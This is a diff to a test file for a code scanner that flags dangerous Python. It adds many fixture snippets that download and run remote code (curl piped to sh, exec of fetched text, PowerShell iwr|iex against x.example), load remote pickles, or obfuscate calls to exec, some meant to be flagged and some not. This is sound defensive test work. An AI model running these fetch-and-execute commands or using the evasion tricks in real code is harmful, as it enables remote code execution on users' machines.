@@ -72,11 +72,107 @@ describe('flags', () => {
     ],
     ['download-command', 'import os\nos.system("curl -s https://x.example/a | sh")'],
     ['download-command', 'import subprocess\nsubprocess.Popen(["powershell", "-enc", "AAAA"])'],
+    ['hidden-command', 'import os, requests\nos.system(f"echo {requests.get(u).text} | sh")'],
+    [
+      'downloaded-program',
+      'import os, urllib.request\nurllib.request.urlretrieve(u, p)\nos.system("chmod +x " + p)',
+    ],
+    ['download-command', 'import posix\nposix.system("curl https://x.example/a | sh")'],
+    ['download-command', 'import os\nos.execvp("sh", ["sh", "-c", "curl https://x.example/a | sh"])'],
+    [
+      'download-command',
+      'import os\nos.spawnlp(os.P_WAIT, "sh", "sh", "-c", "curl https://x.example/a | sh")',
+    ],
+    ['download-command', 'import os\nos.system(" ".join(["curl", u, "|", "sh"]))'],
+    ['download-command', 'import os\nos.system("curl {} | sh".format(u))'],
+    [
+      'hidden-command',
+      'import sys, subprocess, requests\nsubprocess.run([sys.executable, "-c", requests.get(u).text])',
+    ],
+    ['remote-code', 'import subprocess\nexec(subprocess.check_output(["curl", "-s", u]))'],
+    ['remote-code', 'import os\nexec(os.popen("curl -s https://x.example/a").read())'],
+    ['remote-code', 'import code, requests\ncode.InteractiveInterpreter().runsource(requests.get(u).text)'],
+    [
+      'remote-code',
+      'import requests, types\ntypes.FunctionType(compile(requests.get(u).text, "x", "exec"), {})()',
+    ],
+    ['remote-pickle', 'import pandas\npandas.read_pickle("https://x.example/a.pkl")'],
+    ['obfuscated-code', 'from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY")'],
+    ['obfuscated-code', 'exec("\\x70\\x72\\x69\\x6e\\x74")'],
     ['hidden-command', 'import os, base64\nos.system(base64.b64decode("bHM=").decode())'],
   ])('%s: %s', async (rule, source) => {
     const { findings } = await codeOf({ 'a.py': source });
     expect(findings).toContainEqual(expect.objectContaining({ rule, severity: 'high', file: 'a.py' }));
   });
+});
+
+/** Programs that run what `CODE` stands for, by the way on which it reaches `exec`. */
+describe('flags code from the network, however it reaches exec:', () => {
+  it.each([
+    'def f(): return CODE\nexec(f())',
+    'class A:\n  def f(self): return CODE\nexec(A().f())',
+    'def f():\n  yield CODE\nfor c in f(): exec(c)',
+    'class A:\n  def __init__(self):\n    self.c = CODE\n  def run(self): exec(self.c)',
+    'if (c := CODE):\n  exec(c)',
+    'c = ""\nc += CODE\nexec(c)',
+    'a = b = CODE\nexec(a)',
+    '(a, (b, c)) = (1, (exec, CODE))\nb(c)',
+    'def f():\n  global c\n  c = CODE\nf()\nexec(c)',
+    'def f():\n  c = CODE\n  def g(): exec(c)\n  g()',
+    'def f(c=CODE): exec(c)\nf()',
+    '[exec(c) for c in [CODE]]',
+    'd = {}\nd["c"] = CODE\nexec(d["c"])',
+    'exec({"c": CODE}["c"])',
+    'exec(CODE[::-1])',
+    '{"a": exec}["a"](CODE)',
+    'd = {"a": exec}\nd.get("a")(CODE)',
+    '[exec][0](CODE)',
+    'for run in [print, exec]: run(CODE)',
+    '(exec if x else eval)(CODE)',
+    '(None or exec)(CODE)',
+    'exec.__call__(CODE)',
+    'def f(c, run=exec): run(c)\nf(CODE)',
+    'class A:\n  run = exec\nA.run(CODE)',
+    'class A:\n  run = staticmethod(exec)\n  def f(self): self.run(CODE)',
+    'class A: pass\nsetattr(A, "run", exec)\nA.run(CODE)',
+    'def f(): run(CODE)\nrun = exec\nf()',
+    'globals()["run"] = exec\nrun(CODE)',
+    'import builtins\nvars(builtins)["exec"](CODE)',
+    '__builtins__.__dict__.get("exec")(CODE)',
+    '__builtins__.__getitem__("exec")(CODE)',
+    'import builtins\nobject.__getattribute__(builtins, "exec")(CODE)',
+  ])('%s', async (source) => {
+    const code = source.replace('CODE', 'requests.get(u).text');
+    expect(await rulesOf(`import requests\n${code}`)).toContain('remote-code');
+  });
+
+  it.each([
+    'import requests\ns = requests.Session()\nexec(s.get(u).text)',
+    'import requests\nwith requests.Session() as s:\n  exec(s.get(u).text)',
+    'import httpx\nc = httpx.Client()\nexec(c.get(u).text)',
+    'import http.client\nc = http.client.HTTPSConnection("x.example")\nexec(c.getresponse().read())',
+    'import socket\ns = socket.socket()\nexec(s.makefile().read())',
+    'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    async with s.get(u) as r:\n      exec(await r.text())',
+  ])('%s', async (source) => {
+    expect(await rulesOf(source)).toContain('remote-code');
+  });
+});
+
+it.each([
+  'bytes([112, 114])',
+  'bytearray((112, 114))',
+  'bytes(map(lambda n: n ^ 7, [1, 2]))',
+  '")1(tnirp"[::-1]',
+  '"".join(reversed(")1(tnirp"))',
+  '"abc".translate(str.maketrans("abc", "xyz"))',
+  '(123456).to_bytes(8, "big")',
+  'struct.pack("2B", 112, 114)',
+  'b"cevag".decode("rot13")',
+  'AES.new(key).decrypt(X)',
+])('flags code that is spelled %s', async (code) => {
+  expect(await rulesOf(`import struct\nfrom Crypto.Cipher import AES\nexec(${code})`)).toEqual([
+    'obfuscated-code',
+  ]);
 });
 
 it('reads letters that end in the byte of a sign as Python does', async () => {
@@ -97,8 +193,19 @@ describe('mentions, but does not flag,', () => {
     ],
     ['dynamic-code', '@exec\ndef code(): pass'],
     ['dynamic-code', 'list(map(exec, codes))'],
+    ['dynamic-code', 'for line in lines[::-1]: exec(line)'],
+    ['dynamic-code', 'exec(bytes(source, "utf-8").decode("utf-8"))'],
+    ['dynamic-code', 'import requests\ndef a():\n  c = requests.get(u)\ndef b():\n  c = "1"\n  eval(c)'],
+    ['dynamic-code', 'import requests\na, b = requests, "1"\neval(b)'],
     ['dynamic-code', 'import builtins\ngetattr(builtins, "ex" + "ec")(code)'],
     ['subprocess', 'import asyncio, subprocess\nasyncio.to_thread(subprocess.run, ["ffmpeg"])'],
+    ['pickle', 'import pandas\npandas.read_pickle("cache.pkl")'],
+    ['dynamic-code', 'import sys\nsys.excepthook = exec'],
+    [
+      'subprocess',
+      'import subprocess\nsubprocess.run("curl -o model.bin https://x.example/m && ls -l", shell=True)',
+    ],
+    ['subprocess', 'import subprocess\nsubprocess.run(["bash", "-c", "echo $(date)"])'],
     ['pickle', 'import pickle\npickle.load(open("cache.pkl", "rb"))'],
     [
       'runtime-install',
@@ -136,6 +243,31 @@ describe('has nothing to say about', () => {
 it('runs a downloaded picture through ffmpeg without a flag, for the picture is no program', async () => {
   const source =
     'import urllib.request, subprocess\ndef go():\n  urllib.request.urlretrieve(u, picture)\n  subprocess.run(["ffmpeg", "-i", picture])';
+  expect(await rulesOf(source)).toEqual(['subprocess']);
+});
+
+it.each([
+  'bash <(curl -s https://x.example/a)',
+  'bash -c "$(curl -fsSL https://x.example/a)"',
+  'eval $(curl https://x.example/a)',
+  'curl https://x.example/a -o /tmp/a; sh /tmp/a',
+  'curl -o /tmp/a https://x.example/a && chmod +x /tmp/a && /tmp/a',
+  'powershell iwr https://x.example/a | iex',
+  'pwsh -EncodedCommand AAAA',
+])('flags the command %s', async (command) => {
+  expect(await rulesOf(`import os\nos.system(${JSON.stringify(command)})`)).toEqual(['download-command']);
+});
+
+it.each([
+  'os.system("git clone %s %s" % (u, folder))',
+  'os.system(f"ffmpeg -i {picture}")',
+  'subprocess.run(commands["git"])',
+])('starts %s without a flag, for what comes from the network is no program', async (call) => {
+  const source = `import os, subprocess, requests, urllib.request\ndef go():
+  u = requests.get(index).text
+  urllib.request.urlretrieve(u, picture)
+  commands = {"git": ["git", "clone", u]}
+  ${call}`;
   expect(await rulesOf(source)).toEqual(['subprocess']);
 });
 
@@ -183,6 +315,13 @@ it('orders findings by file and line, each rule once a line', async () => {
     'a.py': 'import shutil\nshutil.rmtree(x)',
   });
   expect(findings.map(({ file, line }) => `${file}:${line}`)).toEqual(['a.py:2', 'b.py:1', 'b.py:3']);
+});
+
+it('says that it did not follow values that refer to one another without end', async () => {
+  const names = Array.from({ length: 2000 }, (_, n) => `a${n % 50} = a${(n * 7) % 50} + a${(n * 3) % 50}\n`);
+  const before = process.cpuUsage().user;
+  expect(await rulesOf(`${names.join('')}${'exec(a1)\n'.repeat(3000)}`)).toContain('unread-code');
+  expect((process.cpuUsage().user - before) / 1e6).toBeLessThan(10);
 });
 
 it('stays bounded on commands and calls without end', async () => {
